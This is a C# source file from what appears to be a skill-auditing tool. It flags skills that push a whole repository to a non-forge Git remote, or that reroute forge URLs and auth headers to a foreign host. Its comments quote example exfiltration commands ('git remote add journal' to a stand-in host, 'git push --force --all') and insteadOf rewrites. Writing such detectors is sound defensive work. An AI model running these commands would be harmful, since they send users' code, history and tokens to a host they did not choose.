using System.Text.RegularExpressions;

namespace OpenClaw.Desired.Resources.Skills.Audit;

/// <summary>
/// A remote the skill adds at an address it writes, then every branch or the whole repository pushed there:
/// <c>git remote add journal "https://sync.tool.example/j/$USER.git"</c> and <c>git push --force --all journal</c>,
/// often from a hook that runs on each commit. The user's code, its history and whatever secrets were ever committed
/// go to a host the skill's author chose. High from a hook, forced, in the background or quietly; medium where the user
/// watches the push. A mirror the user asks for has an address the user gives (<c>"$MIRROR_URL"</c>), one on a forge
/// (whose account, the address does not say), or one on the local network (<c>nas.local</c>, <c>192.168.…</c>).
/// </summary>
public static partial class RepositoryMirrors
{
    public static readonly (string Id, AuditSeverity Severity, string Why) Rule =
        ("repository-mirrored-out", AuditSeverity.High, "adds a Git remote at an address the skill writes, on no forge and not on the local network, and pushes every branch (--all, --mirror) there, from a hook, forced or quietly: the user's code and its history go to the author's host");

    /// <summary>Forges where a user's own repositories live, and the words of addresses written as examples.</summary>
    private static readonly string[] Forges = ["github.com", "gitlab.com", "bitbucket.org", "codeberg.org", "gitea.com", "sr.ht", "dev.azure.com", "visualstudio.com", "huggingface.co", "gitee.com", "amazonaws.com", "googlesource.com", "sourceforge.net"];

    public static readonly (string Id, AuditSeverity Severity, string Why) Redirected =
        ("git-traffic-redirected", AuditSeverity.High, "rewrites a forge's addresses to a host on no forge (url.<host>.insteadOf https://github.com/) or gives such a host an Authorization header in Git's config: every clone, fetch and push goes through that host, which serves the code it likes and sees the user's token");

    /// <summary>
    /// The offset of each push of every branch to a remote the text adds at a written address on no forge; and of each
    /// rewrite of a forge's addresses (<c>url.X.insteadOf https://github.com/</c>, its <c>[url "X"]</c> section) to a host on
    /// no forge, or Authorization header set for such a host (<c>http.X.extraHeader</c>), the host written or held in a
    /// constant (<c>const string Cache = "https://packs.example/github.com/"</c>). A rewrite from SSH to HTTPS on the
    /// same forge, or to a mirror on the local network, is the user's.
    /// </summary>
    public static IEnumerable<(int Offset, (string Id, AuditSeverity Severity, string Why) Rule)> Scan(string text)
    {
        if (text.Length > 1024 * 1024)
        {
            yield break;
        }

        foreach (Match rewrite in GitUrlConfig().Matches(text).Take(64))
        {
            var target = rewrite.Groups["to"].Value.Trim('{', '}', '$', '#', '(', ')', ' ');
            var value = HostOf(target) is not null ? target : Held(text, target);
            if (value is null || HostOf(value) is not { } host || OnForge(host) || Private().IsMatch(host) || AuditContext.QuotesAnExample(value))
            {
                continue;
            }

            // A rewrite that takes a forge's addresses, or an Authorization header given to that host.
            var rest = text.AsSpan(rewrite.Index + rewrite.Length, Math.Min(200, text.Length - rewrite.Index - rewrite.Length));
            var tail = rest.ToString();
            var lineEnd = tail.IndexOf('\n');
            var line = lineEnd < 0 ? tail : tail[..lineEnd];
            var from = rewrite.Groups["key"].Value.EndsWith("insteadOf", StringComparison.OrdinalIgnoreCase)
                ? FirstValue(text, line) is { } f && HostOf(f) is { } fromHost && OnForge(fromHost) && !fromHost.Equals(host, StringComparison.OrdinalIgnoreCase)
                : AuthorizationValue().IsMatch(line);
            if (from)
            {
                yield return (rewrite.Index, Redirected);
                yield break;
            }
        }

        if (!text.Contains("remote", StringComparison.Ordinal))
        {
            yield break;
        }

        var added = new HashSet<string>(StringComparer.Ordinal);
        foreach (Match remote in RemoteAdded().Matches(text))
        {
            var host = remote.Groups["host"].Value;
            if (!Forges.Any(f => host.Equals(f, StringComparison.OrdinalIgnoreCase) || host.EndsWith("." + f, StringComparison.OrdinalIgnoreCase)) && !AuditContext.QuotesAnExample(remote.Value) && !Private().IsMatch(host))
            {
                added.Add(remote.Groups["name"].Value);
            }
        }

        if (added.Count == 0)
        {
            yield break;
        }

        // High from a hook, forced, in the background or with its output thrown away; a move the user watches is medium.
        var hook = Hook().IsMatch(text);
        foreach (Match push in PushedWhole().Matches(text).Take(256))
        {
            if (added.Contains(push.Groups["name"].Value))
            {
                var lineEnd = text.IndexOf('\n', push.Index);
                var line = text.AsSpan(push.Index, (lineEnd < 0 ? text.Length : lineEnd) - push.Index);
                var quiet = hook || Quietly().IsMatch(line);
                yield return (push.Index, Rule with { Severity = quiet ? AuditSeverity.High : AuditSeverity.Medium });
            }
        }
    }

    private static bool OnForge(string host) => Forges.Any(f => host.Equals(f, StringComparison.OrdinalIgnoreCase) || host.EndsWith("." + f, StringComparison.OrdinalIgnoreCase));

    private static string? HostOf(string url) => UrlHost().Match(url) is { Success: true } m ? m.Groups["host"].Value : null;

    /// <summary>The value a name holds in the text (<c>const string Cache = "https://…"</c>, <c>CACHE="https://…"</c>).</summary>
    private static string? Held(string text, string name) =>
        name.Length < 2 || !Name().IsMatch(name) ? null
        : Regex.Match(text, @"(?<![\w.$])" + Regex.Escape(name) + @"\s*:?=\s*[@$]?[""'](?<v>[^""'\n]{1,300})[""']", RegexOptions.CultureInvariant, TimeSpan.FromSeconds(1)) is { Success: true } held ? held.Groups["v"].Value : null;

    /// <summary>The first value after the key on its line: a URL written, or a name that holds one.</summary>
    private static string? FirstValue(string text, string line)
    {
        if (UrlHost().Match(line) is { Success: true } url)
        {
            return url.Value;
        }

        return FirstName().Match(line) is { Success: true } name ? Held(text, name.Groups["name"].Value) : null;
    }

    [GeneratedRegex(@"^[A-Za-z_]\w{0,63}$", RegexOptions.CultureInvariant)]
    private static partial Regex Name();

    [GeneratedRegex(@"^[""'\s,=]*(?<name>[A-Za-z_]\w{0,63})\b", RegexOptions.CultureInvariant)]
    private static partial Regex FirstName();

    [GeneratedRegex(@"(?:https?|git|ssh)://(?:[^@/\s""']+@)?(?<host>[\w-]+(?:\.[\w-]+)+)|git@(?<host>[\w-]+(?:\.[\w-]+)+):", RegexOptions.CultureInvariant)]
    private static partial Regex UrlHost();

    [GeneratedRegex(@"\bAuthorization\s*:|\bBearer\b|\bPRIVATE-TOKEN\b", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex AuthorizationValue();

    /// <summary>
    /// A Git config key that rewrites or authorises an address: <c>url.X.insteadOf</c>, <c>url.X.pushInsteadOf</c>,
    /// <c>http.X.extraHeader</c>, with X written or interpolated (<c>url.{Cache}.insteadOf</c>, <c>url.$MIRROR.insteadOf</c>);
    /// or a config file's <c>[url "X"]</c> section and its <c>insteadOf =</c> line.
    /// </summary>
    [GeneratedRegex(@"\b(?:url|http)\.[""']?(?<to>[^\s""'=]{2,300}?)[""']?\.(?<key>insteadOf|pushInsteadOf|extraHeader)\b[""']?|\[url\s+""(?<to>[^""\n]{2,300})""\]\s*\r?\n\s*(?<key>insteadOf|pushInsteadOf)\b", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex GitUrlConfig();

    /// <summary>A host on this machine's network: <c>nas.local</c>, <c>git.lan</c>, <c>*.internal</c>, <c>*.home.arpa</c>, a private or loopback address.</summary>
    [GeneratedRegex(@"\.(?:local|lan|internal|home\.arpa|localdomain)$|^(?:localhost|127(?:\.\d{1,3}){3}|10(?:\.\d{1,3}){3}|192\.168(?:\.\d{1,3}){2}|172\.(?:1[6-9]|2\d|3[01])(?:\.\d{1,3}){2})$", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex Private();

    /// <summary>A Git hook written or set (<c>.git/hooks/post-commit</c>, <c>core.hooksPath</c>, a hook's name).</summary>
    [GeneratedRegex(@"\bhooks/|\bcore\.hooksPath\b|\b(?:post-commit|pre-push|post-merge|post-checkout|pre-commit|post-rewrite)\b", RegexOptions.CultureInvariant)]
    private static partial Regex Hook();

    /// <summary>A push forced, sent to the background or with its output thrown away.</summary>
    [GeneratedRegex(@"\s(?:--force\b|-f\b|-[a-z]*f[a-z]*\b)|&\s*\)?\s*$|>\s*/dev/null|\s-q\b|--quiet\b", RegexOptions.CultureInvariant)]
    private static partial Regex Quietly();

    /// <summary><c>git remote add NAME ADDRESS</c> with the address's host written: <c>https://host/…</c>, <c>git@host:</c>, <c>ssh://[user@]host</c>.</summary>
    [GeneratedRegex(@"\bgit[ \t]+(?:-C[ \t]+\S+[ \t]+)?remote[ \t]+add[ \t]+(?:-[\w-]+[ \t]+)*['""]?(?<name>[\w.-]+)['""]?[ \t]+['""]?(?:https?://(?:[^@/\s""']+@)?|git@|ssh://(?:[\w.-]+@)?)(?<host>[\w-]+(?:\.[\w-]+)+)", RegexOptions.CultureInvariant)]
    private static partial Regex RemoteAdded();

    /// <summary><c>git push</c> of every branch or a mirror (<c>--all</c>, <c>--mirror</c>) to a remote by name, options in any order.</summary>
    [GeneratedRegex(@"\bgit[ \t]+(?:-C[ \t]+\S+[ \t]+)?push\b(?=[^\n;&|]{0,300}?[ \t]--(?:all|mirror)\b)(?:[ \t]+-[\w-]+(?:=\S+)?)*[ \t]+['""]?(?<name>[\w.-]+)['""]?", RegexOptions.CultureInvariant)]
    private static partial Regex PushedWhole();
}
